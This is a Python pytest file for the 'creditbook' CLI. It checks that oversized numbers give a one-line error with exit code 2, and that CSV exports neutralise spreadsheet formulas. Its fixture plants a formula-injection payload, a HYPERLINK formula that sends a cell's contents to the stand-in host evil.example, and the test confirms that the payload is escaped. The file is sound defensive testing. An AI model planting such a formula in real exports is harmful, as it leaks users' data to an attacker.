"""The `creditbook` command against hostile input: every number has a maximum the database can
hold (past it: one clear line and exit 2, no traceback), and its CSV outputs neutralise cells a
spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Callable
from pathlib import Path

import pytest

import creditbook
from creditbook.entrypoints.cli.app import main
from creditbook.service.access import AccessService
from creditbook.service.enrichment import enrichment_for

Cli = Callable[..., tuple[int, str, str]]
HUGE = str(10**20)
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")'


@pytest.fixture
def cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Cli:
    monkeypatch.setenv("CREDITBOOK_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    monkeypatch.setenv("COLUMNS", "200")

    def run(*args: str) -> tuple[int, str, str]:
        try:
            code = main(list(args))
        except SystemExit as exc:
            code = int(exc.code or 0)
        out, err = capsys.readouterr()
        return code, out, err

    return run


@pytest.fixture
def world(cli: Cli) -> dict[str, str]:
    code, out, _ = cli("team", "create", "Acme")
    team = re.search(r"(team_\w+)", out)
    assert code == 0 and team
    book = creditbook.open(os.environ["CREDITBOOK_DATABASE_URL"])
    member = book.add_member(team.group(1), "bob@acme.example", "member")
    key = AccessService(book.kernel).issue_key(team.group(1), member.id)
    job = enrichment_for(book).create_job(
        team.group(1),
        [{"first_name": HYPERLINK, "last_name": "@SUM(1)", "company_domain": "acme.example"}],
        ["email_finder"],
        estimate_only=True,
    )
    return {"team": team.group(1), "member": member.id, "key": key.key_id, "job": job.id}


@pytest.mark.parametrize(
    "args",
    [
        ("jobs", "resume", "{job}", "--credit-limit", HUGE),
        ("key", "cap", "{team}", "{key}", HUGE),
        ("key", "issue", "{team}", "{member}", "--monthly-cap", HUGE),
        ("member", "cap", "{team}", "{member}", HUGE),
        ("grant", "{team}", HUGE),
        ("charge", "{team}", "email_finder", "--quantity", str(2**63)),
        ("hold", "{team}", "email_finder", "--ttl", HUGE),
        ("team", "seats", "{team}", HUGE),
        ("credits", "sweep", "--stalled-minutes", HUGE),
        ("idempotency", "purge", "--older-than-days", HUGE),
    ],
)
def test_a_number_past_its_maximum_is_one_clear_line_and_exit_2(
    cli: Cli, world: dict[str, str], args: tuple[str, ...]
) -> None:
    code, out, err = cli(*(a.format(**world) for a in args))
    assert code == 2, (out, err)
    assert "Traceback" not in out + err
    assert re.search(r"less than or equal to|not in the range|from 0 to 1,000,000,000,000", err), (
        err
    )


def test_jobs_results_neutralises_planted_lead_fields(cli: Cli, world: dict[str, str]) -> None:
    code, out, _ = cli("jobs", "results", world["job"])
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["first_name"] == "'" + HYPERLINK
    assert row["last_name"] == "'@SUM(1)"
    assert row["company_domain"] == "acme.example"
